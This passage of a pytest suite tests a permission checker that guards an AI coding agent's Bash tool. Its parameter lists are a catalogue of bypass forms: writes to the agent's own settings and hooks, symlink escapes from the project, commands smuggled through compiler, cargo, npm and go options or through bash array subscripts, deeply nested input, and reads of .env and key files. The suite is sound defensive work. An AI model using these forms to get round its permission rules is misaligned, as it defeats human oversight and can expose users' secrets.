        "cp -a evil/. .",
        "tar xf evil.tar",  # an archive unpacked into the project root may hold .claude/settings.json
        "unzip evil.zip",
        "cp x .claude/hooks/pre.sh",
        "touch .git/config",
    ],
)
def test_protected_files_are_protected_from_bash_file_writes(project, command):
    p = perms(project, allow=[f"Bash({command.split()[0]}:*)", "Bash(echo:*)"], permission_mode="acceptEdits")
    decision = p.check("Bash", {"command": command})
    assert decision.behavior == "ask", decision.reason
    assert "control" in decision.reason and "agent" in decision.reason


@pytest.mark.parametrize(
    "command",
    [
        "sed -n 'w ../P' f",
        "sed 's/a/b/w ../P' f",
        "sed -i 's/a/b/' ../P",
        "git log --output=../P",
        "git diff --output ../P",
        "git format-patch -o ../out HEAD~1",
        "cp x ../P",
        "cp x y /tmp",
        "echo x | tee ../P",
        "sort -o ../P f",
        "dd if=x of=../P",
        "touch ../P",
        "curl -o ../P https://example.com",
        "ln -s .. up && echo x > up/P",
        "ln -s .. up; cd up; echo x > P",
        "ln -s /tmp up && cp x up/",
        "ln --symbolic .. up && sed -n 'w up/P' f",
        "mv ../outside up && echo x > up/P",
    ],
)
def test_writes_outside_the_project_through_arguments_or_new_symlinks_ask(project, command):
    programs = {"sed", "git log", "git diff", "git format-patch", "cp", "echo", "tee", "sort", "dd", "touch"}
    rules = [f"Bash({p}:*)" for p in programs | {"curl", "ln", "cd", "mv"}]
    decision = perms(project, allow=rules).check("Bash", {"command": command})
    assert decision.behavior == "ask", decision.reason


def test_writes_inside_the_project_through_arguments_stay_ordinary(project):
    p = perms(project, allow=["Bash(cp:*)", "Bash(ln:*)", "Bash(tee:*)", "Bash(sed:*)", "Bash(tar:*)"])
    for command in (
        "cp a b",
        "cp -r src build",
        "ln -s ../lib lib2",
        "tee out.log",
        "sed -i s/a/b/ f",
        "tar xzf dist.tgz -C build",
    ):
        assert p.check("Bash", {"command": command}).behavior == "allow", command


@pytest.mark.parametrize(
    "command",
    [
        "echo " + "$(" * 400 + "x" + ")" * 400,
        "echo " + "`" * 2 + "$(" * 300 + ")" * 300,
        "(" * 500 + "rm f" + ")" * 500,
        "{ " * 400 + "rm f;" + " }" * 400,
        "echo $((" + "(" * 500 + "1" + ")" * 500 + "))",
        "if true; then " * 300 + "rm f" + "; fi" * 300,
        "bash -c " + "'bash -c \"" * 50,
        "x=" + "${y:-" * 400 + "}" * 400,
    ],
    ids=["substitutions", "backquotes", "subshells", "groups", "arithmetic", "ifs", "bash -c", "defaults"],
)
def test_deeply_nested_input_fails_closed_with_a_reason(project, command):
    denying = perms(project, deny=DENY_RM, permission_mode="bypassPermissions")
    allowing = perms(project, allow=["Bash(echo:*)", "Bash(rm:*)", "Bash(bash:*)"])
    decision = denying.check("Bash", {"command": command})
    assert decision.behavior == "deny", decision.reason
    asked = allowing.check("Bash", {"command": command})
    assert asked.behavior == "ask" and asked.reason


# ---- issue 30: finite lists in an open world, subcommands wherever they stand, every subscript -----------

# same columns as BYPASSES. "ask" under the deny rule: the program is not known to run no other command,
# so even bypassPermissions asks (and print mode refuses), naming the rule.
OPEN_WORLD = [
    # programs no table listed that run the command after their arguments
    ("setarch x86_64 rm f", "deny", "Bash(setarch:*)", "ask"),
    ("logsave /dev/null rm f", "deny", "Bash(logsave:*)", "ask"),
    ("capsh -- -c 'rm f'", "deny", "Bash(capsh:*)", "ask"),
    ("hyperfine 'rm f'", "deny", "Bash(hyperfine:*)", "ask"),
    ("numactl --cpunodebind=0 rm f", "deny", "Bash(numactl:*)", "ask"),
    ("perf stat rm f", "deny", "Bash(perf:*)", "ask"),
    # programs never heard of: what they do with their arguments can't be told
    ("mytool --run 'rm f'", "ask", "Bash(mytool:*)", "ask"),
    ("./build.sh rm f", "ask", "Bash(./build.sh:*)", "ask"),
    ("timeout 5 mytool x", "ask", ("Bash(timeout:*)", "Bash(mytool:*)"), "ask"),
    ("FOO=x mytool", "ask", "Bash(mytool)", "ask"),
    # known programs with an option that runs a command, abbreviations included
    ("cmake -E env rm f", "deny", "Bash(cmake:*)", "ask"),
    ("cmake -P script.cmake", "deny", "Bash(cmake:*)", "ask"),
    ("cmake -DCMAKE_C_COMPILER_LAUNCHER=rm ..", "deny", "Bash(cmake:*)", "ask"),
    ("npx -c 'rm f'", "deny", "Bash(npx:*)", "ask"),
    ("npm exec -- rm f", "deny", "Bash(npm exec:*)", "ask"),
    ("npm x --call='rm f'", "deny", "Bash(npm x:*)", "ask"),
    ("npm --script-shell=./evil.sh test", "deny", "Bash(npm test:*)", "ask"),
    ("npm config set script-shell ./evil.sh", "deny", "Bash(npm config:*)", "ask"),
    ("uv run rm f", "deny", "Bash(uv run:*)", "ask"),
    ("poetry run rm f", "deny", "Bash(poetry run:*)", "ask"),
    ("split --filter='rm f' a.txt", "deny", "Bash(split:*)", "ask"),
    ("split -l 10 --fil='rm f' a.txt", "deny", "Bash(split:*)", "ask"),
    ("gcc -wrapper /bin/sh,-c,'rm f' -c y.c", "deny", "Bash(gcc:*)", "ask"),
    ("gcc -B/tmp/evil -c y.c", "deny", "Bash(gcc:*)", "ask"),
    ("cc -specs=evil.specs y.c", "deny", "Bash(cc:*)", "ask"),
    ("clang -fuse-ld=/tmp/evil y.c", "deny", "Bash(clang:*)", "ask"),
    ("g++ @opts.txt y.cc", "deny", "Bash(g++:*)", "ask"),
    ("x86_64-linux-gnu-gcc-12 -fplugin=./p.so y.c", "deny", "Bash(x86_64-linux-gnu-gcc-12:*)", "ask"),
    ("rustc -C linker=rm x.rs", "deny", "Bash(rustc:*)", "ask"),
    ("cargo --config 'target.x.runner=\"rm\"' run", "deny", "Bash(cargo:*)", "ask"),
    ("cargo rustc -- -C linker=rm", "deny", "Bash(cargo rustc:*)", "ask"),
    ("cargo evil-thing", "deny", "Bash(cargo:*)", "ask"),  # an alias or an external cargo-evil-thing
    ("go test -exec rm ./...", "deny", "Bash(go test:*)", "ask"),
    ("go build -toolexec=rm .", "deny", "Bash(go build:*)", "ask"),
    ("go vet -vettool=/bin/rm ./...", "deny", "Bash(go vet:*)", "ask"),
    ("go build -ldflags '-linkmode external -extld rm' .", "deny", "Bash(go build:*)", "ask"),
    ("go env -w GOFLAGS=-toolexec=rm", "deny", "Bash(go env:*)", "ask"),
    ("pip --python /tmp/evil install x", "deny", "Bash(pip:*)", "ask"),
    ("wget --use-askpass=./x.sh https://example.com/", "deny", "Bash(wget:*)", "ask"),
    ("wget -e 'use_askpass=./x.sh' https://example.com/", "deny", "Bash(wget:*)", "ask"),
    ("diff3 --diff-program=rm a b c", "deny", "Bash(diff3:*)", "ask"),
    ("java -XX:OnError='rm f' -jar x.jar", "deny", "Bash(java:*)", "ask"),
    # variables a program reads a command or its options from
    ("TAR_OPTIONS='--to-command=rm' tar -xf t.tar", "ask", "Bash(tar:*)", "ask"),
    ("CC='rm f; :' make x.o", "ask", "Bash(make:*)", "ask"),
    ("MAKEFILES=/dev/stdin make x", "ask", "Bash(make:*)", "ask"),
    ("env CC='rm f' make x.o", "ask", ("Bash(env:*)", "Bash(make:*)"), "ask"),
    ("export CC='rm f'; make x.o", "ask", ("Bash(export:*)", "Bash(make:*)"), "ask"),
    ("CC=rm go build .", "ask", "Bash(go build:*)", "ask"),
    ("CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=rm cargo run", "ask", "Bash(cargo run:*)", "ask"),
    ("GZIP='--bogus' gzip x", "ask", "Bash(gzip:*)", "ask"),
    ("PYTEST_ADDOPTS='-p evil' pytest", "ask", "Bash(pytest:*)", "ask"),
    # the same programs doing their ordinary work stay ordinary
    ("FOO=bar npm test", "allow", "Bash(npm test:*)", "allow"),
    ("CI=1 make test", "allow", "Bash(make:*)", "allow"),
    ("cargo build --release", "allow", "Bash(cargo build:*)", "allow"),
    ("go test ./...", "allow", "Bash(go test:*)", "allow"),
    ("gcc -O2 -Wall -o build/x x.c", "allow", "Bash(gcc:*)", "allow"),
    ("uv run pytest -q", "allow", "Bash(pytest:*)", "allow"),
    ("npx tsc --noEmit", "allow", "Bash(tsc:*)", "allow"),
    ("split -l 100 big.txt part-", "allow", "Bash(split:*)", "allow"),
    ("cmake -S . -B build -DCMAKE_BUILD_TYPE=Release", "allow", "Bash(cmake:*)", "allow"),
    ("mytool", "allow", "Bash(mytool)", "allow"),  # no arguments: nothing of the line can steer it
]

# bash evaluates a subscript as arithmetic wherever a name with one is assigned, read or tested
SUBSCRIPTS = [
    ("a=(['$(rm f)']=1)", "deny", "Bash(echo:*)", "ask"),
    ("declare -a a=(['$(rm f)']=1)", "deny", "Bash(declare:*)", "ask"),
    ('local -a a=(["$(rm f)"]=1)', "deny", "Bash(local:*)", "ask"),
    ("a+=([0]=x ['$(rm f)']=1)", "deny", "Bash(echo:*)", "ask"),
    ("b='a[$(rm f)]'; a=([b]=1)", "deny", "Bash(echo:*)", "ask"),
    ("typeset -A m; m=(['$(rm f)']=v)", "deny", "Bash(typeset:*)", "ask"),
    ("wait -p 'a[$(rm f)]'", "deny", "Bash(wait:*)", "ask"),
    ("wait -n -p 'a[$(rm f)]' 1", "deny", "Bash(wait:*)", "ask"),
    ("getopts ab 'a[$(rm f)]'", "deny", "Bash(getopts:*)", "ask"),
    ("compgen -V 'a[$(rm f)]' x", "deny", "Bash(compgen:*)", "ask"),
    ("printf -v 'a[$(rm f)]' x", "deny", "Bash(printf:*)", "ask"),
    ("read -a 'a[$(rm f)]' < f", "deny", "Bash(read:*)", "ask"),
    ("mapfile -t 'a[$(rm f)]' < f", "deny", "Bash(mapfile:*)", "ask"),
    ("unset -v 'a[$(rm f)]'", "deny", "Bash(unset:*)", "ask"),
    ("export 'a[$(rm f)]=1'", "deny", "Bash(export:*)", "ask"),
    ("readonly 'a[$(rm f)]=1'", "deny", "Bash(readonly:*)", "ask"),
    ("test -v 'a[$(rm f)]'", "deny", "Bash(test:*)", "ask"),
    ("[[ -v 'a[$(rm f)]' ]]", "deny", "Bash(echo:*)", "ask"),
    ("let 'a[$(rm f)]=1'", "deny", "Bash(let:*)", "ask"),
    ("(( a['$(rm f)'] ))", "deny", "Bash(echo:*)", "ask"),
    ("echo ${a['$(rm f)']}", "deny", "Bash(echo:*)", "ask"),
    ("exec {a['$(rm f)']}>f", "deny", "Bash(exec:*)", "ask"),
    # literal subscripts and plain lists stay ordinary
    ("a=([0]=x [1]=y); echo ${a[1]}", "allow", "Bash(echo:*)", "allow"),
    ("a=(x y z); echo ${#a[@]}", "allow", "Bash(echo:*)", "allow"),
    ("k=3; a=([k]=1); echo ok", "allow", "Bash(echo:*)", "allow"),
]


@pytest.mark.parametrize(("command", "under_deny", "rules", "under_allow"), OPEN_WORLD + SUBSCRIPTS)
def test_open_world_and_subscripts(project, command, under_deny, rules, under_allow):
    test_bypass_forms(project, command, under_deny, rules, under_allow)


def test_a_question_under_a_deny_rule_names_the_rule(project):
    p = perms(project, deny=["Bash(rm:*)", "Bash(git push:*)"], permission_mode="bypassPermissions")
    decision = p.check("Bash", {"command": "mytool --run x"})
    assert decision.behavior == "ask"
    assert "mytool is not a program known here" in decision.reason
    assert '"Bash(rm:*)", "Bash(git push:*)"' in decision.reason
    # without a Bash deny rule nothing is at stake in bypassPermissions
    assert (
        perms(project, permission_mode="bypassPermissions")
        .check("Bash", {"command": "mytool --run x"})
        .behavior
        == "allow"
    )


SUBCOMMAND_DENIES = [
    "Bash(git push:*)",
    "Bash(make deploy:*)",
    "Bash(hg push:*)",
    "Bash(gcloud compute instances delete:*)",
    "Bash(aws s3 rm:*)",
    "Bash(gh pr merge:*)",
    "Bash(docker compose down:*)",
    "Bash(kubectl delete:*)",
    "Bash(svn commit:*)",
]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("/usr/lib/git-core/git-push", "deny"),
        ("git-push origin main", "deny"),
        ("make -C . deploy", "deny"),
        ("make -s deploy", "deny"),
        ("make build deploy", "deny"),  # make runs every target named
        ("make -j 4 --keep-going deploy", "deny"),
        ("hg -R . push", "deny"),
        ("hg --config ui.x=y push", "deny"),
        ("gcloud --quiet compute instances delete vm1", "deny"),
        ("gcloud compute --project p instances delete vm1", "deny"),
        ("aws s3 --profile p rm s3://b/k", "deny"),
        ("gh pr -R o/r merge 1", "deny"),
        ("gh pr merge --squash 1", "deny"),
        ("docker-compose down", "deny"),  # the dashed form is the same command
        ("docker compose -f x.yml down", "deny"),
        ("kubectl -n prod delete pod x", "deny"),
        ("svn --non-interactive commit -m x", "deny"),
        ("git commit -m push", "allow"),  # git's grammar: the subcommand is commit
        ("make build", "allow"),
        ("gh pr list", "ask"),  # gh runs aliases and extensions: not known, asked under the deny rules
        ("aws s3 ls s3://b", "allow"),
    ],
)
def test_deny_rules_find_their_words_whatever_options_stand_between(project, command, expected):
    p = perms(project, deny=SUBCOMMAND_DENIES, permission_mode="bypassPermissions")
    decision = p.check("Bash", {"command": command})
    assert decision.behavior == expected, decision.reason


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "cat < .env",
        "head -c 100 ./.env",
        "base64 .env | tr a b",
        "cp .env /tmp/copy",
        "grep -f .env src",
        "grep --file=.env src",
        "cat .e*",
        "cat config/*.pem",
        "xargs cat < .env",
    ],
)
def test_a_bash_command_naming_a_read_denied_file_is_refused(project, command):
    """Issue 30: cat of a Read-denied file ran under Bash(cat:*); the same Read rules hold for Bash."""
    (project / ".env").write_text("SECRET=1")
    (project / "config").mkdir()
    (project / "config" / "key.pem").write_text("KEY")
    rules = ["Read(.env)", "Read(**/*.pem)"]
    for mode in ("default", "bypassPermissions"):
        p = perms(project, allow=["Bash"], deny=rules, permission_mode=mode)
        decision = p.check("Bash", {"command": command})
        assert decision.behavior == "deny" and "denies reading it" in decision.reason, (mode, decision)


def test_files_a_read_rule_does_not_cover_stay_readable(project):
    (project / ".env").write_text("SECRET=1")
    (project / "notes.txt").write_text("x")
    p = perms(project, allow=["Bash(cat:*)", "Bash(grep:*)"], deny=["Read(.env)"])
    assert p.check("Bash", {"command": "cat notes.txt"}).behavior == "allow"
    assert p.check("Bash", {"command": "grep -n env notes.txt"}).behavior == "allow"  # "env" names no file


@pytest.mark.parametrize("command", ["unlink f", "/usr/bin/unlink f", "timeout 5 unlink f"])
def test_unlink_is_rm_to_a_deny_rule(project, command):
    p = perms(project, deny=DENY_RM, permission_mode="bypassPermissions")
    assert p.check("Bash", {"command": command}).behavior == "deny"


def test_a_script_file_is_judged_by_its_commands_under_a_deny_rule(project):
    """Issue 30 (left from earlier rounds): ./x.sh and bash x.sh ran rm under a deny rule on rm. A shell
    script file the line runs is read and its commands judged; a program file that can't be read as one
    (python, a binary, a missing file) can't be told, and asks under the deny rule."""
    (project / "clean.sh").write_text("#!/bin/bash\nset -e\nrm -f build/out\n")
    (project / "ok.sh").write_text("#!/bin/sh\necho hi | tr a-z A-Z\n")
    (project / "tool.py").write_text("#!/usr/bin/env python3\nimport os\nos.remove('x')\n")
    (project / "all.sh").write_text('"$@"\n')
    denying = perms(project, deny=DENY_RM, permission_mode="bypassPermissions")
    expected = {
        "./clean.sh": "deny",
        "bash clean.sh": "deny",
        "sh ./clean.sh": "deny",
        "cd . && ./clean.sh": "deny",
        "./ok.sh": "allow",
        "bash ok.sh": "allow",
        "./tool.py": "ask",
        "./all.sh rm f": "deny",  # "$@" runs its arguments: can't be told, refused under the rule
        "./missing.sh": "ask",
    }
    got = {c: denying.check("Bash", {"command": c}).behavior for c in expected}
    assert got == expected
    allowing = perms(project, allow=["Bash(./ok.sh)", "Bash(bash ok.sh)"])
    assert allowing.check("Bash", {"command": "./ok.sh"}).behavior == "allow"  # the rule covers its commands
    assert allowing.check("Bash", {"command": "bash ok.sh"}).behavior == "allow"


# ---- deep input costs a scan (issue 40: benchmarks/permission_parse.py's worst nested ≤ 25x) ----------


def _paired(perms, a: str, b: str, runs: int = 15) -> tuple[float, float]:
    import time

    ta, tb = [], []
    for _ in range(runs):
        for text, times in ((a, ta), (b, tb)):
            start = time.perf_counter()
            perms.check("Bash", {"command": text})
            times.append(time.perf_counter() - start)
    return min(ta), min(tb)


@pytest.mark.parametrize(
    "command",
    [
        "if true; then " * 500 + "rm f" + "; fi" * 500,
        "echo " + "$(" * 400 + "x" + ")" * 400,
        "(" * 2000 + "rm f" + ")" * 2000,
        "for i in a; do echo $(" * 100 + "rm f" + "); done" * 100,
    ],
    ids=["500-deep if", "400-deep $()", "2000-deep ()", "100-deep for/$()"],
)
def test_deep_nesting_is_refused_after_a_scan_at_a_small_multiple_of_an_ordinary_check(tmp_path, command):
    """Before: the 500-deep if was parsed and walked to 120 levels, 16x-129x an ordinary check on a loaded
    machine (the goal is 25x). Now a line nested more than 60 levels as its words show is refused before
    any parse."""
    perms = Permissions(
        RuleSettings(cwd=tmp_path, home=tmp_path / "h", user_home=tmp_path / "u", deny=["Bash(rm:*)"])
    )
    ordinary = "git status && pytest -q tests/test_a.py 2>&1 | tail -20"
    perms.check("Bash", {"command": ordinary})
    decision = perms.check("Bash", {"command": command})
    assert decision.behavior == "deny" and "too deep" in decision.reason, decision.reason
    base, deep = _paired(perms, ordinary, command)
    assert deep < 5 * base, (deep, base)  # a scan: well under the ordinary check (25x is the goal)


def test_ordinary_nesting_is_still_judged(tmp_path):
    perms = Permissions(
        RuleSettings(
            cwd=tmp_path, home=tmp_path / "h", user_home=tmp_path / "u", allow=["Bash(echo:*)", "Bash(true)"]
        )
    )
    line = (
        "if true; then " * 20
        + "echo $( echo $( echo '(((((((((((((((((((((((((((((((((((((((' ) )"
        + "; fi" * 20
    )
    assert perms.check("Bash", {"command": line}).behavior == "allow"
